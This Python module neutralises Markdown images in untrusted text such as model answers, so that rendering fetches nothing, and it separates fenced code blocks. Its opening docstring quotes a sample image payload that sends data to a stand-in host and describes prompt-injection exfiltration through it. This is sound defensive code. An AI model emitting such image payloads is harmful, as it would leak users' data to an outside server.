"""Showing untrusted text (a model's answer, a server's message) as Markdown that fetches nothing.

A reply may carry `![x](http://host/track.png?leak=...)`: drawn as Markdown,
the browser would fetch that URL the moment it shows, leaking whatever the
URL holds (prompt-injection exfiltration). Every Markdown image starts with
the two characters `![`, so none can form once each `![` outside code has its
`[` escaped (`!\\[`, which reads as `![`). Fenced code blocks are split off
and shown as code (never parsed as Markdown, so they need no change and stay
exactly as written, `vec![1, 2]` included). In what looks like an inline
code span a backslash would show, so there the `!` and `[` are kept apart by
an invisible word joiner instead; were the guess wrong, that too is only text
and a link, never an image. HTML is left to Streamlit, which draws it as
text (`unsafe_allow_html=False`). Links stay links: following one is the
reader's choice. Pure: no streamlit import.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Literal

__all__ = ["Block", "inert_markdown", "markdown_blocks"]

_WORD_JOINER = "\u2060"
_FENCE_OPEN = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
_BACKTICKS = re.compile(r"`+")


@dataclass(frozen=True, slots=True)
class Block:
    """A piece of a message: inert Markdown to draw as Markdown, or code to draw as code."""

    kind: Literal["markdown", "code"]
    text: str
    language: str | None = None


def markdown_blocks(text: str) -> list[Block]:
    """`text` split into inert Markdown and fenced code blocks, in order; empty pieces are dropped.

    Fences follow CommonMark at the top level: three or more backticks or
    tildes indented by at most three spaces open a block, a line of at least
    as many of the same character closes it, and an unclosed block runs to
    the end (as it does while an answer is still streaming in).
    """
    blocks: list[Block] = []
    prose: list[str] = []
    lines = text.split("\n")
    i = 0
    while i < len(lines):
        opening = _FENCE_OPEN.match(lines[i])
        info = opening.group(3).strip() if opening else ""
        if opening is None or (opening.group(2)[0] == "`" and "`" in info):
            prose.append(lines[i])
            i += 1
            continue
        indent, fence = len(opening.group(1)), opening.group(2)
        closing = re.compile(rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$")
        code: list[str] = []
        i += 1
        while i < len(lines) and not closing.match(lines[i]):
            code.append(_dedent(lines[i], indent))
            i += 1
        i += 1  # the closing fence, if any
        _add_prose(blocks, prose)
        prose = []
        blocks.append(Block("code", "\n".join(code), info.split()[0] if info else None))
    _add_prose(blocks, prose)
    return blocks


def inert_markdown(text: str) -> str:
    """`text` with no Markdown image left in it; everything else, links and code spans too, as it was.

    Outside inline code each `![` becomes `!\\[` (shown as `![`); inside what
    CommonMark would take for an inline code span it becomes `!`, a word
    joiner, `[` (shown as `![`).
    """
    out: list[str] = []
    position = 0
    for start, end in _code_spans(text):
        out.append(text[position:start].replace("![", "!\\["))
        out.append(text[start:end].replace("![", "!" + _WORD_JOINER + "["))
        position = end
    out.append(text[position:].replace("![", "!\\["))
    return "".join(out)


def _add_prose(blocks: list[Block], lines: list[str]) -> None:
    joined = "\n".join(lines)
    if joined.strip():
        blocks.append(Block("markdown", inert_markdown(joined)))


def _dedent(line: str, indent: int) -> str:
    spaces = len(line) - len(line.lstrip(" "))
    return line[min(spaces, indent):]


def _code_spans(text: str) -> list[tuple[int, int]]:
    """(start, end) of each inline code span: a run of backticks up to the next run of the same length.

    A run preceded by an unescaped backslash starts no span (its first
    backtick is literal).
    """
    spans = []
    runs = list(_BACKTICKS.finditer(text))
    k = 0
    while k < len(runs):
        run = runs[k]
        start, width = run.start(), len(run.group())
        if _escaped(text, start):
            start, width = start + 1, width - 1
        closer = next((j for j in range(k + 1, len(runs)) if len(runs[j].group()) == width), None)
        if not width or closer is None:
            k += 1
            continue
        spans.append((start, runs[closer].end()))
        k = closer + 1
    return spans


def _escaped(text: str, index: int) -> bool:
    backslashes = 0
    while index - backslashes - 1 >= 0 and text[index - backslashes - 1] == "\\":
        backslashes += 1
    return backslashes % 2 == 1
